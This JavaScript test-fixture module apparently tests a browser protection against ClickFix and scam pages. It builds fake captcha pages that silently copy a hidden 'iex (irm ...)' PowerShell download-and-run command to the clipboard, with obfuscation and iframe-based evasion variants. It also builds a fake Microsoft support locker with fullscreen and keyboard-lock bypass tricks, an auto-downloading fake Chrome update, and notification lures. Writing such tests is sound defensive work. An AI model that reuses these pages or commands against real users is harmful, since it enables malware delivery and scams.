'use strict';
/* The pages of the hold tests (issue 15): what a determined kit does, and
 * the legitimate pages that must keep working. Each page reports what it
 * got to /__report on its own host (sendBeacon), so the test knows what
 * happened even after the tab moved to blocked.html. */

// A PowerShell ClickFix command, assembled at run time as kits do, so the
// served HTML shows no command and no clipboard call: only the clipboard
// write made on the click can give the page away.
const CMD = 'powershell -w hidden -c "iex (irm https://update-check.example.net/v)"';
const CMD_JS = `['power', 'shell -w hidden -c "iex (irm https://update-check.example.net/v)"'].join('')`;

const REPORT_JS = `
  const report = (k) => { try { navigator.sendBeacon('/__report?k=' + encodeURIComponent(k)); } catch (e) {} };
  report('ready');`;

// The four ways a page writes to the clipboard, and the same through a
// fresh iframe's pristine functions.
const COPY = {
  writetext: `navigator['clip' + 'board']['write' + 'Text'](cmd).then(() => report('resolved'), () => report('refused'));`,
  exec: `const ta = document.createElement('textarea'); ta.value = cmd; document.body.appendChild(ta); ta.select();
    document['exec' + 'Command']('copy'); ta.remove();`,
  copyevent: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', cmd); e.preventDefault(); }, { once: true });
    const r = document.createRange(); r.selectNodeContents(document.querySelector('h1')); getSelection().removeAllRanges(); getSelection().addRange(r);
    document['exec' + 'Command']('copy');`,
  // the person's own Ctrl+C (the test presses it) with the page's handler
  // swapping in the command
  copykey: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', cmd); e.preventDefault(); report('handler'); }, { once: true });
    const r = document.createRange(); r.selectNodeContents(document.querySelector('h1')); getSelection().removeAllRanges(); getSelection().addRange(r);`,
  item: `navigator['clip' + 'board'].write([new ClipboardItem({ 'text/plain': new Blob([cmd], { type: 'text/plain' }) })]).then(() => report('resolved'), () => report('refused'));`,
  iframe: `const f = document.createElement('iframe'); document.body.appendChild(f);
    const wt = f.contentWindow.Clipboard.prototype['write' + 'Text'];
    wt.call(navigator.clipboard, cmd).then(() => report('resolved'), () => report('refused'));`,
};

// The kit's command and paste steps come from its server when the page
// loads, as ClickFix kits fetch theirs: written out in the page they are
// judged at load (and blocked), and what these pages test is the hold on
// the copy itself.
const KIT_JS = `let kit = { cmd: '', steps: '' }; fetch('/kit.json').then((r) => r.json()).then((k) => { kit = k; report('kit'); });`;

function captchaPage(variant) {
  return `<!doctype html><html lang="en"><head><title>Just a moment...</title></head><body>
  <h1>Checking your connection</h1>
  <p>One more step before you continue to the site.</p>
  <label><input type="checkbox" id="robot"> I am not a robot</label>
  <div id="steps"></div>
  <script>${REPORT_JS}
    ${KIT_JS}
    document.getElementById('robot').addEventListener('click', () => {
      document.getElementById('steps').textContent = 'Verification steps: ' + kit.steps;
      const cmd = kit.cmd;
      ${COPY[variant]}
      report('tried');
    });
  </script></body></html>`;
}

// The same from a cross-origin widget frame (its own content script asks
// the top frame for the verdict): the top page only frames the "check".
const XFRAME_TOP = (widget) => `<!doctype html><html lang="en"><head><title>Just a moment...</title></head><body>
  <h1>Checking your connection</h1><p>One more step before you continue to the site.</p>
  <iframe id="box" src="${widget}" allow="clipboard-write" style="width:400px;height:200px;border:0"></iframe>
  <script>${REPORT_JS}</script></body></html>`;
const XFRAME_WIDGET = `<!doctype html><html lang="en"><body>
  <label><input type="checkbox" id="robot"> I am not a robot</label><div id="steps"></div>
  <script>${REPORT_JS}
    ${KIT_JS}
    document.getElementById('robot').addEventListener('click', () => {
      document.getElementById('steps').textContent = kit.steps;
      navigator['clip' + 'board']['write' + 'Text'](kit.cmd).then(() => report('resolved'), () => report('refused'));
      report('tried');
    });
  </script></body></html>`;

// A shop's "copy your code" button that writes a command hidden in the
// middle of padding. The page says nothing of Win+R or pasting, so only the
// command in the written text can give it away.
const PADDED_PAGE = `<!doctype html><html lang="en"><head><title>Your discount code - Seaside Outlet</title></head><body>
  <h1>Seaside Outlet</h1><p>Thank you for signing up. Copy your discount code and use it at checkout.</p>
  <button id="robot">Copy code</button>
  <script>${REPORT_JS}
    const cmd = ${CMD_JS};
    document.getElementById('robot').addEventListener('click', () => {
      navigator['clip' + 'board']['write' + 'Text']('echo ' + 'x'.repeat(900) + ' ; ' + cmd + ' ; echo ' + 'y'.repeat(600))
        .then(() => report('resolved'), () => report('refused'));
      report('tried');
    });
  </script></body></html>`;

// A widget that writes a harmless text on a first click and the command on
// a second: the second write must be judged with its own text.
// The command and its steps come from the server at run time: the widget is
// judged in its own right (issue 21), and a kit written out in it (its
// command, its paste steps) would be caught at the first write, before the
// second could be judged on its own text.
const XFRAME_WIDGET_TWICE = `<!doctype html><html lang="en"><body>
  <button id="thanks">Thanks</button>
  <label><input type="checkbox" id="robot"> I am not a robot</label><div id="steps"></div>
  <script>${REPORT_JS}
    let kit = { cmd: '', steps: '' }; fetch('/kit.json').then((r) => r.json()).then((k) => { kit = k; });
    document.getElementById('thanks').addEventListener('click', () => {
      navigator.clipboard.writeText('Thanks for checking').then(() => report('thanks-written'), () => report('thanks-refused'));
    });
    document.getElementById('robot').addEventListener('click', () => {
      document.getElementById('steps').textContent = kit.steps;
      navigator['clip' + 'board']['write' + 'Text'](kit.cmd).then(() => report('resolved'), () => report('refused'));
      report('tried');
    });
  </script></body></html>`;

// A developer tool's install page on its own domain, with its own Copy
// button: the legitimate case.
const DEV_CMD = 'curl -fsSL https://get.quillcli.dev/install.sh | sh';
const DEV_PAGE = `<!doctype html><html lang="en"><head><title>Install Quill CLI - Quill docs</title></head><body>
  <nav><a href="/">Quill</a> · <a href="/docs">Docs</a> · <a href="/blog">Blog</a></nav>
  <h1>Installing the Quill command-line tool</h1>
  <p>Quill is an open-source tool for writing and checking documentation. Install it with the script below, or use your
  package manager. The script downloads the latest release for your platform and puts it in ~/.quill/bin.</p>
  <pre><code id="cmd">${DEV_CMD}</code></pre>
  <button id="copy" type="button">Copy</button>
  <h2>Other ways to install</h2>
  <p>Homebrew: <code id="brew">brew install quill</code> <button id="copy-brew" type="button">Copy</button>.</p><p> Windows: winget install Quill.Quill. From source: cargo install quill-cli.</p>
  <h2>Next steps</h2><p>Run quill init in your project folder, then quill check. See the configuration guide for options.</p>
  <script>${REPORT_JS}
    document.getElementById('copy').addEventListener('click', () => {
      navigator.clipboard.writeText(document.getElementById('cmd').textContent).then(() => report('copied'), (e) => report('refused-' + e.name));
    });
    // The older way: select a hidden field and run the copy command.
    document.getElementById('copy-brew').addEventListener('click', () => {
      const ta = document.createElement('textarea'); ta.value = document.getElementById('brew').textContent; document.body.appendChild(ta); ta.select();
      report(document.execCommand('copy') ? 'exec-true' : 'exec-false'); ta.remove();
    });
  </script></body></html>`;

// A docs page whose copy handler puts its own text on the clipboard and
// cancels the event the old ways: returnValue = false, or a handler that
// returns false. The person's Ctrl+C must still copy that text.
const COPY_CMD = 'quill install --channel stable';
const cancelPage = (how) => `<!doctype html><html lang="en"><head><title>Quill channels - Quill docs</title></head><body>
  <h1>Release channels</h1><p>Quill ships a stable and a nightly channel. Select the line below and copy it.</p>
  <pre id="line">quill install   --channel   stable</pre>
  <script>${REPORT_JS}
    ${how === 'returnvalue'
    ? `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', ${JSON.stringify(COPY_CMD)}); e.returnValue = false; report('handler'); });`
    : `document.oncopy = (e) => { e.clipboardData.setData('text/plain', ${JSON.stringify(COPY_CMD)}); report('handler'); return false; };`}
  </script></body></html>`;

// "Press Allow": a notification prompt at load and on a click.
const ALLOW_PAGE = `<!doctype html><html lang="en"><head><title>Press Allow to continue</title></head><body>
  <h1>Click "Allow" to confirm that you are not a robot</h1>
  <p>Press Allow to watch the video.</p><button id="go">Continue</button>
  <script>${REPORT_JS}
    const seen = () => report('permission-' + Notification.permission);
    seen(); setInterval(seen, 250);
    Notification.requestPermission().then((p) => report('asked-' + p));
    document.getElementById('go').addEventListener('click', () => Notification.requestPermission().then((p) => report('clicked-' + p)));
  </script></body></html>`;

// A news site that asks for notifications after a click: the control that
// shows the test profile does grant the permission.
const NEWS_PAGE = `<!doctype html><html lang="en"><head><title>Morning briefing - City Herald</title></head><body>
  <h1>City Herald</h1><p>Council approves the new library opening hours. The river path reopens next week.</p>
  <button id="follow">Get breaking news alerts</button>
  <script>${REPORT_JS}
    document.getElementById('follow').addEventListener('click', () => Notification.requestPermission().then((p) => report('clicked-' + p)));
  </script></body></html>`;

// A locker that looks harmless until the first click, then shows its text
// and asks for full screen, keyboard lock and pointer lock, with the
// functions taken in one of the ways a kit would try.
const LOCKER_TEXT = `<h1>Windows Defender Security Warning</h1><p>Your computer has been locked. Trojan spyware detected, your passwords are being stolen.</p>
  <p>Call Microsoft Support immediately: +1-855-555-0148 (Toll Free). Do not close this page.</p>`;
const GRAB = {
  // the page's own (hooked) functions
  direct: `done(window);`,
  // a fresh about:blank iframe's pristine copies
  iframe: `const f = document.createElement('iframe'); document.body.appendChild(f); done(f.contentWindow);`,
  // the same, reached through window[0] and created by innerHTML
  innerhtml: `const box = document.createElement('div'); document.body.appendChild(box); box.innerHTML = '<iframe></iframe>'; done(window[0]);`,
  // an iframe in the page's own markup, its functions taken by the inline
  // script right after it, while the page is still being parsed
  parser: `done(early);`,
  // an iframe made by the editor: execCommand('insertHTML') in a
  // contenteditable, reached through window[0]
  inserthtml: `const ed = document.getElementById('ed'); ed.focus();
    document['exec' + 'Command']('insertHTML', false, '<iframe></iframe>'); done(window[0]);`,
  // a srcdoc iframe made at load
  srcdoc: `done(document.getElementById('pre').contentWindow);`,
  // a same-origin page in a frame, navigated (re-created) after load
  reframe: `done(document.getElementById('nav').contentWindow);`,
  // a pop-up with no address, opened on an earlier click (opening it uses
  // up that click's user activation)
  popup: `done(popupWin); try { popupWin.close(); } catch (e) {}`,
  // unwrapping: call, apply and Reflect.apply replaced to catch what the
  // hooks pass on, then every caught function is called directly
  unwrap: `const caught = [];
    const RA = Reflect.apply, call = Function.prototype.call, apply = Function.prototype.apply, bind = Function.prototype.bind;
    Function.prototype.call = function (t, ...a) { caught.push(this); return RA(this, t, a); };
    Function.prototype.apply = function (t, a) { caught.push(this); return RA(this, t, a || []); };
    Function.prototype.bind = function (...a) { caught.push(this); return RA(bind, this, a); };
    Reflect.apply = function (f, t, a) { caught.push(f); return RA(f, t, a); };
    done(window);
    Function.prototype.call = call; Function.prototype.apply = apply; Function.prototype.bind = bind; Reflect.apply = RA;
    const t = Function.prototype.toString;
    for (const f of [Element.prototype.requestFullscreen, Element.prototype.requestPointerLock, window.Keyboard && Keyboard.prototype.lock]) {
      if (!f) continue;
      if (!/\\{\\s*\\[native code\\]\\s*\\}/.test(RA(t, f, []))) report('not-native');
      if (f.prototype !== undefined) report('has-prototype');
    }
    const desc = Object.getOwnPropertyDescriptor(Element.prototype, 'requestFullscreen');
    if (desc.value !== Element.prototype.requestFullscreen) report('descriptor-differs');
    let tried = 0;
    for (const f of new Set(caught)) {
      if (typeof f !== 'function' || !/lock|fullscreen|pointer/i.test(f.name)) continue;
      tried++;
      for (const self of [document.documentElement, navigator.keyboard]) {
        try { const p = RA(f, self, []); if (p && p.then) p.then(() => report('leaked'), () => {}); } catch (e) {}
      }
    }
    report('unwrap-calls-' + tried);`,
};

function lockerPage(variant) {
  return `<!doctype html><html lang="en"><head><title>Holiday photos</title></head><body>
  <h1>Holiday photos</h1><p>Our trip to the coast, summer 2026. Click to view the slideshow.</p>
  <button id="prep">Captions</button> <button id="view">View slideshow</button>
  ${variant === 'srcdoc' ? '<iframe id="pre" srcdoc="<p>caption</p>" style="display:none"></iframe>' : ''}
  ${variant === 'reframe' ? '<iframe id="nav" src="about:blank" style="display:none"></iframe>' : ''}
  ${variant === 'inserthtml' ? '<div id="ed" contenteditable="true">Notes</div>' : ''}
  ${variant === 'parser' ? `<iframe style="display:none"></iframe><script>
    const pristine = frames[0];
    const early = { Element: { prototype: { requestFullscreen: pristine.Element.prototype.requestFullscreen,
      requestPointerLock: pristine.Element.prototype.requestPointerLock } },
      Keyboard: pristine.Keyboard && { prototype: { lock: pristine.Keyboard.prototype.lock } } };
  </script>` : ''}
  <script>${REPORT_JS}
    ${variant === 'reframe' ? `const nav = document.getElementById('nav'); nav.addEventListener('load', () => { if (nav.contentWindow.location.pathname === '/frame.html') report('framed'); }); nav.src = '/frame.html';` : ''}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    document.addEventListener('pointerlockchange', () => { if (document.pointerLockElement) report('pointer-lock'); });
    let popupWin = null;
    document.getElementById('prep').addEventListener('click', () => { ${variant === 'popup' ? "popupWin = window.open(''); report('prepared');" : "report('prepared');"} });
    function done(w) {
      const el = document.documentElement;
      const pl = w.Element.prototype.requestPointerLock.call(document.body);
      if (pl && pl.then) pl.then(() => report('pointer-lock-resolved'), () => {});
      w.Element.prototype.requestFullscreen.call(el).then(() => report('fullscreen-resolved'), () => {});
      if (w.Keyboard) w.Keyboard.prototype.lock.call(navigator.keyboard).then(() => report('keyboard-lock'), () => {});
      report('tried');
    }
    document.getElementById('view').addEventListener('click', () => {
      document.body.insertAdjacentHTML('afterbegin', ${JSON.stringify(LOCKER_TEXT)});
      ${GRAB[variant]}
    });
  </script></body></html>`;
}

// The control for the lockers: a game that asks for the same on a click,
// with nothing alarming on the page, gets them.
const GAME_PAGE = `<!doctype html><html lang="en"><head><title>Maze runner - a small browser game</title></head><body>
  <h1>Maze runner</h1><p>Find the exit of the maze. Use the arrow keys; press Play to start in full screen.</p>
  <button id="view">Play</button>
  <script>${REPORT_JS}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    document.addEventListener('pointerlockchange', () => { if (document.pointerLockElement) report('pointer-lock'); });
    document.getElementById('view').addEventListener('click', () => {
      document.body.insertAdjacentHTML('beforeend', '<p>Level 1</p>');
      // Pointer lock first: full screen uses up the click's activation.
      const pl = document.body.requestPointerLock();
      if (pl && pl.then) pl.then(() => report('pointer-lock-resolved'), (e) => report('pointer-lock-refused-' + e.name + ':' + e.message));
      document.documentElement.requestFullscreen().then(() => report('fullscreen-resolved'), (e) => report('fullscreen-refused'));
      if (navigator.keyboard) navigator.keyboard.lock().then(() => report('keyboard-lock'), () => report('keyboard-lock-refused'));
      report('tried');
    });
  </script></body></html>`;

// A fake browser update that starts its download at once, and a real
// download from an ordinary page.
const UPDATE_PAGE = `<!doctype html><html lang="en"><head><title>Update Chrome</title></head><body>
  <h1>Google Chrome</h1><h2>An update is required</h2>
  <p>Your version of Chrome is out of date and can no longer display this page. Install the latest update to continue.</p>
  <a id="dl" href="/ChromeUpdate.exe" download>Update Chrome</a>
  <script>${REPORT_JS}
    setTimeout(() => { document.getElementById('dl').click(); report('tried'); }, 0);
  </script></body></html>`;
// The same program written into the page as a data: address (a download
// with no referrer that names no page).
const UPDATE_DATA_PAGE = `<!doctype html><html lang="en"><head><title>Update Chrome</title></head><body>
  <h1>Google Chrome</h1><h2>An update is required</h2>
  <p>Your version of Chrome is out of date and can no longer display this page. Install the latest update to continue.</p>
  <a id="dl" href="data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA" download="ChromeUpdate.exe">Update Chrome</a>
  <script>${REPORT_JS}
    setTimeout(() => { document.getElementById('dl').click(); report('tried'); }, 0);
  </script></body></html>`;
const FILES_PAGE = `<!doctype html><html lang="en"><head><title>Annual report 2025 - Riverside Library</title></head><body>
  <h1>Riverside Library</h1><p>Our annual report for 2025 is available as a PDF.</p>
  <a id="dl" href="/annual-report-2025.pdf" download>Annual report 2025 (PDF, 1 KB)</a>
  <script>${REPORT_JS}</script></body></html>`;

const HELPER_PAGE = `<!doctype html><html lang="en"><head><title>Notes</title></head><body><h1>Notes</h1><textarea id="t"></textarea>
  <script>${REPORT_JS}</script></body></html>`;

module.exports = { KIT_JS, REPORT_JS, CMD_JS, LOCKER_TEXT, CMD, DEV_CMD, COPY_CMD, COPY, GRAB, captchaPage, XFRAME_TOP, XFRAME_WIDGET, XFRAME_WIDGET_TWICE, PADDED_PAGE, cancelPage, UPDATE_DATA_PAGE, lockerPage, DEV_PAGE, ALLOW_PAGE, NEWS_PAGE, GAME_PAGE, UPDATE_PAGE, FILES_PAGE, HELPER_PAGE };
